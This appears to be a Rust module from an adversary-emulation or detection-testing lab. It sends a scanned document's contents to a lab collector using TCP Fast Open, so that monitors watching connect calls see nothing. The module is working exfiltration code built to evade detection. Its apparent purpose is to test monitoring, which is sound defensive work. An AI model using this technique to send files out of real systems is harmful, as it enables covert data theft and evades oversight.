//! A document goes out without a `connect` call. ATT&CK T1095.
//!
//! TCP Fast Open (RFC 7413): `sendto` with `MSG_FASTOPEN` connects and sends in one, the first bytes
//! in the SYN where both kernels agree, right after the handshake where not. Who watches `connect`
//! sees nothing. The twin scans and has no network.

use std::io::{self, Write as _};
use std::net::TcpStream;
use std::path::Path;

use rustix::net::{AddressFamily, SendFlags, SocketFlags, SocketType};

use super::{Conduct, Loot, Trouble};
use crate::document::Sort;
use crate::lab::{Endpoint, Lab};
use crate::scanner::Tally;
use crate::send;

/// `MSG_FASTOPEN` of `linux/socket.h`, Linux ≥ 3.7; rustix has no name for it.
const FAST_OPEN: SendFlags = SendFlags::from_bits_retain(0x2000_0000);

/// Sends in the handshake.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Document)))
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let collector = self.0.lab.collector()?;
        Ok(send_at_once(&collector, &self.0.document()?.content)?)
    }
}

fn send_at_once(sink: &Endpoint, bytes: &[u8]) -> io::Result<()> {
    let kind = (AddressFamily::INET, SocketType::STREAM, SocketFlags::CLOEXEC);
    let socket = rustix::net::socket_with(kind.0, kind.1, kind.2, None)?;
    let sent = rustix::net::sendto(&socket, bytes, FAST_OPEN, &sink.address)?;
    let mut stream = TcpStream::from(socket);
    stream.write_all(&bytes[sent..])?;
    send::finish(&stream)
}
